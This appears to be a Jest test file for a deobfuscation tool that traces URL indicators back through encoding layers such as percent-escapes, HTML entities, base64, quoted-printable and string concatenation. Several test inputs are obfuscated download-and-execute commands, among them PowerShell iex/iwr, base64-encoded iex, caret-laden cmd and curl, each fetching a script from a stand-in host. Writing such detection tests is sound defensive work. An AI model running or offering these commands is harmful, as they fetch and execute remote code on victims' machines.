import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { flat } from './peel-many.js';
import { peel } from './peel.js';
import { ledBack, piecesOf, replacedPieces, throughBoth, unitPieces } from './positions.js';
import { runRecipe } from './recipe/run.js';
import { PEEL_LIMITS } from './types.js';

describe('pieces', () => {
  it('lead a part back, and all of an uneven piece where it begins or ends within', () => {
    const pieces = replacedPieces('ab%41%42cd', /(?:%..)+/g, (run) => run.replaceAll('%4', '').replaceAll('1', 'A').replaceAll('2', 'B'));
    expect(pieces).toEqual([
      { at: 0, length: 2, from: 0, span: 2, even: true }, { at: 2, length: 2, from: 2, span: 6, even: false }, { at: 4, length: 2, from: 8, span: 2, even: true },
    ]);
    expect([[0, 1], [1, 2], [2, 1], [3, 2], [4, 2], [0, 6]].map(([offset = 0, length = 0]) => { const led = ledBack(pieces, { offset, length }); return [led.offset, led.length]; })).toEqual([[0, 1], [1, 7], [2, 6], [2, 7], [8, 2], [0, 10]]);
    expect(ledBack([], { offset: 3, length: 2 })).toEqual({ offset: 0, length: 0 });
    expect(unitPieces('72, 105', /\d+/g).map(({ from, span }) => [from, span])).toEqual([[0, 2], [4, 3]]);
  });

  it('of two steps lead back as the two do one after the other', () => {
    const some = fc.integer({ min: 1, max: 4 });
    const parts = fc.array(fc.tuple(fc.nat(4), some, some), { maxLength: 6 });
    const made = (length: number, steps: readonly (readonly [number, number, number])[]) => {
      let from = 0;
      const all: { readonly from: number; readonly span: number; readonly length: number }[] = [];
      for (const [gap, span, size] of steps) {
        all.push({ from: from + gap, span, length: size });
        from += gap + span;
      }
      return piecesOf(length, all.filter((part) => part.from + part.span <= length));
    };
    fc.assert(fc.property(fc.nat(30), parts, parts, fc.nat(40), fc.integer({ min: 1, max: 10 }), (length, one, two, offset, size) => {
      const earlier = made(length, one);
      const middle = earlier.at(-1) === undefined ? 0 : (earlier.at(-1)?.at ?? 0) + (earlier.at(-1)?.length ?? 0);
      const later = made(middle, two);
      const both = throughBoth(later, earlier);
      const end = (both.at(-1)?.at ?? 0) + (both.at(-1)?.length ?? 0);
      expect(end).toBe((later.at(-1)?.at ?? 0) + (later.at(-1)?.length ?? 0));
      if (offset + size > end) return;
      expect(ledBack(both, { offset, length: size })).toEqual(ledBack(earlier, ledBack(later, { offset, length: size })));
    }), { numRuns: 500 });
  });
});

const URL = 'http://203.0.113.9/a.ps1';
const hex = (text: string, each: (digits: string) => string): string => Array.from(Buffer.from(text), (byte) => each(byte.toString(16).padStart(2, '0'))).join('');
const b64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');

describe('an indicator is followed back through its layers', () => {
  const sourceIn = (value: string, wanted = URL): string | undefined => {
    const found = peel(value, PEEL_LIMITS).indicators.find(({ type, value: one }) => type === 'url' && one === wanted);
    return found?.source.exact === true ? value.slice(found.source.offset, found.source.offset + found.source.length) : undefined;
  };

  it.each<[string, string, string]>([
    ['escapes of a URL', `open ?next=${encodeURIComponent(URL)}&x=1`, encodeURIComponent(URL)],
    ['each character escaped', `x=${hex(`get ${URL} now`, (digits) => `%${digits}`)}`, hex(URL, (digits) => `%${digits}`)],
    ['HTML entities', `<a>caf&eacute; ${URL.replace('h', '&#104;')} &lt;`, URL.replace('h', '&#104;')],
    ['JSON escapes', `{"a": "\\u0068ttp:\\/\\/203.0.113.9\\/a\\u002eps1"}`, '\\u0068ttp:\\/\\/203.0.113.9\\/a\\u002eps1'],
    ['numbers of characters', `codes: ${Array.from(Buffer.from(`iwr ${URL} now`)).join(', ')}`, Array.from(Buffer.from(URL)).join(', ')],
    ['bytes in source code', `buf = ${hex(`curl ${URL} x`, (digits) => `0x${digits},`)} 0x20`, hex(URL, (digits) => `0x${digits},`).slice(0, -1)],
    ['quoted-printable', `Content-Transfer-Encoding: quoted-printable\n\nsee =C3=A9 ${URL.replace('.ps1', '=2E=\nps1')} =3D=3D`, URL.replace('.ps1', '=2E=\nps1')],
    ['base64 of a text beyond ASCII', b64(`größe — ${URL} é`), b64(`größe — ${URL} é`).slice(16, 48)],
    ['UTF-16 beyond ASCII in base64', b64(Buffer.from(`é ${URL} ü`, 'utf16le')), b64(Buffer.from(`é ${URL} ü`, 'utf16le')).slice(5, 70)],
    ['concatenated strings of PowerShell', `$a = 1; iwr ('ht'+'tp://203'+'.0.113.9'+'/a.ps1') -OutFile b`, `('ht'+'tp://203'+'.0.113.9'+'/a.ps1')`],
    ['a PowerShell command with quotes of its own', `powershell -nop -c "$u = \\"x\\"; iex (iwr ('ht'+'tp://203.0.113.9'+'/a'+'.ps1'))"`, `('ht'+'tp://203.0.113.9'+'/a'+'.ps1')`],
    ['JavaScript strings', `var a = 1; document.location = 'ht' + 'tp:' + '//203.0.113.9/' + 'a.ps1'; eval(a);`, `'ht' + 'tp:' + '//203.0.113.9/' + 'a.ps1'`],
    ['carets and quotes of cmd', `cmd /c "p^ow^ershell i^wr ht^tp://203.0.1^13.9/a.p^s1 -o b"`, 'ht^tp://203.0.1^13.9/a.p^s1'],
    ['base64 of a script', `powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64(`iwr ${URL}`)}')))"`, b64(`iwr ${URL}`).slice(5, 38)],
  ])('%s', (_name, value, expected) => {
    expect(sourceIn(value)).toBe(expected);
  });

  it('gives the layer\'s own part where an encoding tells nothing of positions', () => {
    const value = `x ${b64(`${'a'.repeat(80)} ${URL}`).match(/.{1,76}/g)?.join('\n') ?? ''}`;
    const found = peel(value, PEEL_LIMITS).indicators.find(({ type }) => type === 'url');
    expect(found?.source.exact).toBe(false);
  });

  it('keeps every range inside of the value, and that of a layer inside its parent\'s', () => {
    const text = fc.array(fc.oneof(fc.constantFrom(URL, ' ', '%68%69', '&amp;&lt;', '\\u0041\\u00e9', "'a'+'b'", b64(`iwr ${URL}`), '=C3=A9', 'é', '"', '\n'), fc.string({ maxLength: 5 })), { maxLength: 12 });
    fc.assert(fc.property(text, (parts) => {
      const value = parts.join('');
      for (const { layers, indicators } of [peel(value, PEEL_LIMITS), runRecipe(value, 'from-url', PEEL_LIMITS)]) {
        for (const { source } of [...flat(layers), ...indicators]) {
          expect(source.offset).toBeGreaterThanOrEqual(0);
          expect(source.offset + source.length).toBeLessThanOrEqual(value.length);
        }
        for (const layer of flat(layers)) {
          for (const child of layer.children) {
            expect(child.source.offset).toBeGreaterThanOrEqual(layer.source.offset);
            expect(child.source.offset + child.source.length).toBeLessThanOrEqual(layer.source.offset + layer.source.length);
          }
        }
      }
    }), { numRuns: 200 });
  });
});
